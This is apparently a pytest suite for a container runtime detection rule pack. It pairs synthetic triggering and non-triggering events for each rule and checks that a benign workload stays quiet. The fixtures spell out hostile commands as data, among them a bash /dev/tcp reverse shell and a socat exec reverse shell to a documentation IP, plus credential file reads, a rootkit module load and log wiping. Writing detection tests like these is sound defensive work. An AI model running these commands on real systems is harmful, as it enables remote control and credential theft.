"""Our rule pack: loads alone and after Falco's files, every rule tagged with MITRE, and per rule
an event that must trigger it and one that must not; plus a benign workload that must stay quiet
at WARNING and above."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from garrison.model.runtime import Priority
from garrison.runtime.rules import RuleSet, default_pack, load_result, load_rules
from garrison.runtime.rules.testing import ancestor, make_event

C = "9a8b7c6d5e4f30211203f4e5d6c7b8a9"


@pytest.fixture(scope="module")
def pack() -> RuleSet:
    return load_rules(default_pack())


def test_pack_loads_clean_and_alongside_falco(conformance_dir: Path) -> None:
    rs, res = load_result(default_pack())
    assert res.errors == [] and res.warnings == []
    assert rs.unsupported == {}
    assert len(rs.rules) == len(rs.all_rules) >= 40
    files = [
        conformance_dir / "runtime" / f
        for f in ("falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml")
    ]
    both, res2 = load_result([*files, *default_pack()])
    assert res2.errors == []
    assert {r.name for r in rs.rules} <= {r.name for r in both.rules}


def test_every_rule_has_mitre_technique_and_tactic(pack: RuleSet) -> None:
    for r in pack.all_rules:
        assert any(re.fullmatch(r"T\d{4}(\.\d{3})?", t) for t in r.tags), r.name
        assert any(t.startswith("mitre_") for t in r.tags), r.name
        assert r.evttypes is not None, f"{r.name} is not indexed by event type"


def _events(kw: dict[str, Any]) -> Any:
    a = dict(kw)
    return make_event(a.pop("evt_type"), **a)


W = "O_WRONLY|O_CREAT|O_TRUNC"
R = "O_RDONLY"

# rule -> (must fire, must not fire)
CASES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "Garrison Shell Spawned by Server Process": (
        {"evt_type": "execve", "name": "sh", "args": ["-c", "id"], "ancestors": ["php-fpm8.2", "nginx", "systemd"]},
        {"evt_type": "execve", "name": "sh", "args": ["-c", "id"], "ancestors": ["bash", "nginx", "systemd"]},
    ),
    "Garrison Interactive Shell in Container": (
        {"evt_type": "execve", "name": "bash", "tty": 34816, "container": C},
        {"evt_type": "execve", "name": "bash", "tty": 0, "container": C},
    ),
    "Garrison Reverse Shell Stdio Bound to Network": (
        {"evt_type": "dup2", "name": "bash", "res": 0, "sip": "203.0.113.5", "sport": 4444},
        {"evt_type": "dup2", "name": "bash", "res": 0, "file": "/tmp/out"},
    ),
    "Garrison Netcat or Socat Command Execution": (
        {"evt_type": "execve", "name": "socat", "args": ["tcp:203.0.113.5:4444", "EXEC:/bin/bash"]},
        {"evt_type": "execve", "name": "socat", "args": ["tcp-listen:8080", "tcp:127.0.0.1:80"]},
    ),
    "Garrison Shell Uses dev tcp Redirection": (
        {"evt_type": "execve", "name": "bash", "args": ["-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"]},
        {"evt_type": "execve", "name": "bash", "args": ["-c", "echo hi > /dev/null"]},
    ),
    "Garrison Outbound SSH to Non-Standard Port": (
        {"evt_type": "connect", "name": "ssh", "sip": "198.51.100.1", "sport": 443},
        {"evt_type": "connect", "name": "ssh", "sip": "198.51.100.1", "sport": 22},
    ),
    "Garrison Setns From Container": (
        {"evt_type": "setns", "name": "nsenter", "container": C, "evt_args": {"nstype": 0x20000000}},
        {"evt_type": "setns", "name": "runc", "container": C},
    ),
    "Garrison Nsenter Into Host Namespaces": (
        {"evt_type": "execve", "name": "nsenter", "args": ["-t", "1", "-m", "-u", "-i", "-n", "sh"], "container": C},
        {"evt_type": "execve", "name": "nsenter", "args": ["-t", "1", "-m", "sh"]},
    ),
    "Garrison Mount From Container": (
        {
            "evt_type": "mount",
            "name": "exe",
            "container": C,
            "evt_args": {"dev": "/dev/sda1", "dir": "/mnt", "flags": "0"},
        },
        {
            "evt_type": "mount",
            "name": "mount",
            "container": C,
            "res": -1,
            "evt_args": {"dev": "/dev/sda1", "dir": "/mnt"},
        },
    ),
    "Garrison Release Agent or Core Pattern Write": (
        {"evt_type": "openat", "name": "sh", "file": "/proc/sys/kernel/core_pattern", "flags": W, "container": C},
        {"evt_type": "openat", "name": "systemd-sysctl", "file": "/proc/sys/kernel/core_pattern", "flags": W},
    ),
    "Garrison Container Runtime Socket Access": (
        {"evt_type": "connect", "name": "curl", "container": C, "fd_type": "unix", "file": "/var/run/docker.sock"},
        {"evt_type": "connect", "name": "curl", "fd_type": "unix", "file": "/var/run/docker.sock"},
    ),
    "Garrison User Namespace Created in Container": (
        {"evt_type": "unshare", "name": "unshare", "container": C, "evt_args": {"flags": 0x10000000}},
        {"evt_type": "unshare", "name": "unshare", "container": C, "evt_args": {"flags": 0x00020000}},
    ),
    "Garrison Debugfs in Privileged Container": (
        {"evt_type": "execve", "name": "debugfs", "args": ["/dev/sda1"], "container": C, "privileged": True},
        {"evt_type": "execve", "name": "debugfs", "args": ["/dev/sda1"], "container": C, "privileged": False},
    ),
    "Garrison Kernel Module Load From Container": (
        {"evt_type": "finit_module", "name": "insmod", "container": C},
        {"evt_type": "finit_module", "name": "insmod"},
    ),
    "Garrison Kernel Module Load on Host": (
        {"evt_type": "init_module", "name": "loader"},
        {"evt_type": "finit_module", "name": "modprobe"},
    ),
    "Garrison Kernel Module Tool in Container": (
        {"evt_type": "execve", "name": "insmod", "args": ["rootkit.ko"], "container": C},
        {"evt_type": "execve", "name": "insmod", "args": ["rootkit.ko"]},
    ),
    "Garrison Ptrace Attach": (
        {"evt_type": "ptrace", "name": "injector", "evt_args": {"request": 0x4206, "pid": 1}},
        {"evt_type": "ptrace", "name": "gdb", "evt_args": {"request": 16, "pid": 1}},
    ),
    "Garrison Ptrace Anti-Debug": (
        {"evt_type": "ptrace", "name": "packed", "evt_args": {"request": "PTRACE_TRACEME"}},
        {"evt_type": "ptrace", "name": "packed", "evt_args": {"request": "PTRACE_PEEKDATA"}},
    ),
    "Garrison Packet Socket in Container": (
        {"evt_type": "socket", "name": "python3", "container": C, "evt_args": {"domain": 2, "type": 3}},
        {"evt_type": "socket", "name": "python3", "container": C, "evt_args": {"domain": 2, "type": 1}},
    ),
    "Garrison Packet Socket on Host": (
        {"evt_type": "socket", "name": "sniffer", "evt_args": {"domain": "AF_PACKET", "type": "SOCK_RAW"}},
        {"evt_type": "socket", "name": "ip", "evt_args": {"domain": 16, "type": 3}},  # netlink is SOCK_RAW too
    ),
    "Garrison Credential File Read": (
        {"evt_type": "openat", "name": "python3", "file": "/etc/shadow", "flags": R},
        {"evt_type": "openat", "name": "unix_chkpwd", "file": "/etc/shadow", "flags": R},
    ),
    "Garrison SSH Private Key Read": (
        {"evt_type": "openat", "name": "curl", "file": "/home/alice/.ssh/id_ed25519", "flags": R},
        {"evt_type": "openat", "name": "curl", "file": "/home/alice/.ssh/id_ed25519.pub", "flags": R},
    ),
    "Garrison Cloud Metadata Access From Container": (
        {"evt_type": "connect", "name": "curl", "container": C, "sip": "169.254.169.254", "sport": 80},
        {"evt_type": "connect", "name": "curl", "container": C, "sip": "93.184.216.34", "sport": 80},
    ),
    "Garrison Service Account Token Read by Shell Tool": (
        {
            "evt_type": "openat",
            "name": "cat",
            "container": C,
            "flags": R,
            "file": "/var/run/secrets/kubernetes.io/serviceaccount/token",
        },
        {
            "evt_type": "openat",
            "name": "controller",
            "container": C,
            "flags": R,
            "file": "/var/run/secrets/kubernetes.io/serviceaccount/token",
        },
    ),
    "Garrison Search for Private Keys or Cloud Credentials": (
        {"evt_type": "execve", "name": "find", "args": ["/", "-name", "id_rsa"]},
        {"evt_type": "execve", "name": "find", "args": ["/", "-name", "*.log"]},
    ),
    "Garrison Sensitive File Linked": (
        {"evt_type": "symlinkat", "name": "ln", "evt_args": {"target": "/etc/shadow", "linkpath": "/var/www/s"}},
        {"evt_type": "symlinkat", "name": "ln", "evt_args": {"target": "/srv/app", "linkpath": "/var/www/s"}},
    ),
    "Garrison Directory Traversal to Sensitive File": (
        {
            "evt_type": "openat",
            "name": "node",
            "file": "/app/public/../../etc/passwd",
            "flags": R,
            "ancestors": ["node"],
        },
        {"evt_type": "openat", "name": "node", "file": "/app/public/../static/x.js", "flags": R, "ancestors": ["node"]},
    ),
    "Garrison Kubernetes API Contacted by Shell Tool": (
        {
            "evt_type": "connect",
            "name": "curl",
            "container": C,
            "k8s_ns": "shop",
            "k8s_pod": "web-1",
            "sip": "10.96.0.1",
            "sport": 443,
        },
        {
            "evt_type": "connect",
            "name": "java",
            "container": C,
            "k8s_ns": "shop",
            "k8s_pod": "web-1",
            "sip": "10.96.0.1",
            "sport": 443,
        },
    ),
    "Garrison Crypto Miner Stratum Protocol": (
        {"evt_type": "execve", "name": "kworker", "args": ["-o", "stratum+tcp://pool.example:3333", "-u", "x"]},
        {"evt_type": "execve", "name": "kworker", "args": ["-o", "https://pool.example"]},
    ),
    "Garrison Known Crypto Miner Executed": (
        {"evt_type": "execve", "name": "xmrig", "container": C},
        {"evt_type": "execve", "name": "xmllint", "container": C},
    ),
    "Garrison Connection to Mining Pool Port": (
        {"evt_type": "connect", "name": "kworker", "sip": "198.51.100.20", "sport": 14444},
        {"evt_type": "connect", "name": "kworker", "sip": "10.1.2.3", "sport": 14444},
    ),
    "Garrison Log File Truncated": (
        {"evt_type": "openat", "name": "python3", "file": "/var/log/auth.log", "flags": W},
        {"evt_type": "openat", "name": "logrotate", "file": "/var/log/auth.log", "flags": W},
    ),
    "Garrison Log File Deleted": (
        {"evt_type": "unlinkat", "name": "rm", "evt_args": {"name": "/var/log/auth.log"}},
        {"evt_type": "unlinkat", "name": "rm", "evt_args": {"name": "/tmp/build.log"}},
    ),
    "Garrison Shell History Cleared": (
        {"evt_type": "execve", "name": "ln", "args": ["-sf", "/dev/null", "/root/.bash_history"]},
        {"evt_type": "openat", "name": "bash", "file": "/root/.bash_history", "flags": W},
    ),
    "Garrison Bulk Data Destruction": (
        {"evt_type": "execve", "name": "mkfs.ext4", "args": ["/dev/sdb"], "container": C},
        {"evt_type": "execve", "name": "mkfs.ext4", "args": ["/dev/sdb"]},
    ),
    "Garrison Cron Job Written": (
        {"evt_type": "openat", "name": "sh", "file": "/etc/cron.d/backdoor", "flags": W},
        {
            "evt_type": "openat",
            "name": "sh",
            "file": "/etc/cron.d/backdoor",
            "flags": W,
            "ancestors": ["dpkg", "apt-get"],
        },
    ),
    "Garrison Systemd Unit Written": (
        {"evt_type": "openat", "name": "tee", "file": "/etc/systemd/system/evil.service", "flags": W},
        {"evt_type": "openat", "name": "dpkg", "file": "/lib/systemd/system/nginx.service", "flags": W},
    ),
    "Garrison LD Preload File Modified": (
        {"evt_type": "openat", "name": "echo", "file": "/etc/ld.so.preload", "flags": W},
        {"evt_type": "openat", "name": "cat", "file": "/etc/ld.so.preload", "flags": R},
    ),
    "Garrison SSH Authorized Keys Modified": (
        {"evt_type": "openat", "name": "sh", "file": "/root/.ssh/authorized_keys", "flags": "O_WRONLY|O_APPEND"},
        {"evt_type": "openat", "name": "sshd", "file": "/root/.ssh/authorized_keys", "flags": R},
    ),
    "Garrison Shell Startup File Modified": (
        {"evt_type": "openat", "name": "sh", "file": "/home/bob/.bashrc", "flags": "O_WRONLY|O_APPEND"},
        {"evt_type": "openat", "name": "sh", "file": "/home/bob/.bashrc.bak", "flags": "O_WRONLY|O_APPEND"},
    ),
    "Garrison Drift Executable From Container Upper Layer": (
        {"evt_type": "execve", "name": "kit", "exe": "/tmp/kit", "container": C, "exe_upper_layer": True},
        {"evt_type": "execve", "name": "ls", "exe": "/bin/ls", "container": C, "exe_upper_layer": False},
    ),
    "Garrison Fileless Execution via Memfd": (
        {"evt_type": "execve", "name": "x", "exe": "memfd:x", "exepath": "memfd:x", "exe_from_memfd": True},
        {"evt_type": "execve", "name": "runc", "exe": "memfd:runc_cloned:/proc/self/exe", "exe_from_memfd": True},
    ),
    "Garrison Execution From Dev Shm": (
        {"evt_type": "execve", "name": "sh", "args": ["/dev/shm/x.sh"]},
        {"evt_type": "execve", "name": "sh", "args": ["/tmp/x.sh"]},
    ),
    "Garrison Package Manager in Container": (
        {"evt_type": "execve", "name": "apt-get", "args": ["install", "nmap"], "container": C},
        {"evt_type": "execve", "name": "apt-get", "args": ["install", "nmap"]},
    ),
}


def test_every_pack_rule_has_a_case(pack: RuleSet) -> None:
    assert {r.name for r in pack.all_rules} == set(CASES)


@pytest.mark.parametrize("rule", sorted(CASES))
def test_pack_rule_positive(pack: RuleSet, rule: str) -> None:
    alerts = pack.evaluate(_events(CASES[rule][0]))
    assert rule in {a.rule for a in alerts}
    (alert,) = [a for a in alerts if a.rule == rule]
    assert "<NA>" not in alert.output.split("(")[0]
    assert alert.mitre


@pytest.mark.parametrize("rule", sorted(CASES))
def test_pack_rule_negative(pack: RuleSet, rule: str) -> None:
    assert rule not in {a.rule for a in pack.evaluate(_events(CASES[rule][1]))}


def _benign() -> list[Any]:
    pkg = [ancestor("dpkg"), ancestor("apt-get"), ancestor("sudo"), ancestor("bash"), ancestor("sshd")]
    build = [ancestor("make"), ancestor("bash"), ancestor("sshd")]
    web = [ancestor("nginx"), ancestor("systemd")]
    return [
        # package installs on the host: maintainer scripts, unit files, cron, alternatives
        make_event("execve", name="sh", args=["/var/lib/dpkg/info/nginx.postinst", "configure"], ancestors=pkg),
        make_event("openat", name="dpkg", file="/lib/systemd/system/nginx.service", flags=W, ancestors=pkg[1:]),
        make_event("openat", name="dpkg", file="/etc/cron.daily/apt-compat", flags=W, ancestors=pkg[1:]),
        make_event(
            "openat",
            name="deb-systemd-hel",
            file="/etc/systemd/system/multi-user.target.wants/x",
            flags=W,
            ancestors=pkg,
        ),
        make_event("execve", name="systemctl", args=["daemon-reload"], ancestors=pkg),
        make_event("openat", name="dpkg", file="/etc/shadow", flags=R, ancestors=pkg[1:]),
        make_event("execve", name="useradd", args=["--system", "nginx"], ancestors=pkg),
        make_event("openat", name="useradd", file="/etc/shadow", flags=W, ancestors=pkg),
        make_event("execve", name="pip", args=["install", "requests"], ancestors=["bash", "sshd"]),
        make_event("finit_module", name="modprobe", ancestors=["systemd-udevd", "systemd"]),
        # builds
        make_event("execve", name="gcc", args=["-O2", "-c", "x.c"], ancestors=build),
        make_event("execve", name="sh", args=["-c", "cc -o x x.o"], ancestors=build),
        make_event("openat", name="ld", file="/home/dev/x/build/x", flags=W, ancestors=build),
        make_event("execve", name="cargo", args=["build", "--release"], ancestors=["bash", "sshd"]),
        # web traffic
        make_event("accept4", name="nginx", sip="10.0.0.5", sport=80, ancestors=web),
        make_event("openat", name="nginx", file="/var/www/html/index.html", flags=R, ancestors=web),
        make_event(
            "openat", name="nginx", file="/var/log/nginx/access.log", flags="O_WRONLY|O_APPEND|O_CREAT", ancestors=web
        ),
        make_event("connect", name="nginx", sip="10.0.0.9", sport=8080, ancestors=web),
        make_event("connect", name="curl", sip="151.101.1.1", sport=443, ancestors=["bash", "sshd"]),
        # admin routine
        make_event("openat", name="logrotate", file="/var/log/syslog", flags=W, ancestors=["systemd"]),
        make_event("openat", name="bash", file="/root/.bash_history", flags=W, ancestors=["sshd"]),
        make_event("openat", name="sshd", file="/etc/shadow", flags=R, ancestors=["systemd"]),
        make_event("openat", name="ssh", file="/home/alice/.ssh/id_ed25519", flags=R, ancestors=["bash"]),
        make_event("socket", name="ping", evt_args={"domain": "AF_INET", "type": "SOCK_RAW"}),
        make_event("execve", name="sh", args=["-c", "id"], container=C, ancestors=["conmon"]),
        # runc protecting its own binary in a container's cgroup (podman exec), its parent already gone
        make_event("mount", name="exe", container=C, evt_args={"flags": "MS_BIND"}),
        make_event("mount", name="exe", container=C, evt_args={"flags": "MS_RDONLY|MS_REMOUNT|MS_BIND"}),
    ]


def test_benign_workload_is_quiet_at_warning(pack: RuleSet, conformance_dir: Path) -> None:
    noisy = []
    for ev in _benign():
        noisy.extend((a.rule, ev.proc.name) for a in pack.evaluate(ev) if a.priority.at_least(Priority.WARNING))
    assert noisy == []


def test_pack_min_priority_drops_notice(pack: RuleSet) -> None:
    warn = load_rules(default_pack(), min_priority=Priority.WARNING)
    assert all(r.priority.at_least(Priority.WARNING) for r in warn.rules)
    assert len(warn.rules) < len(pack.rules)
    ev = _events(CASES["Garrison Package Manager in Container"][0])
    assert warn.evaluate(ev) == []


def test_pack_tag_selection() -> None:
    only = load_rules(default_pack(), enable_tags={"mitre_impact"})
    assert only.rules and all("mitre_impact" in r.tags for r in only.rules)
    without = load_rules(default_pack(), disable_tags={"container"})
    assert without.rules and all("container" not in r.tags for r in without.rules)
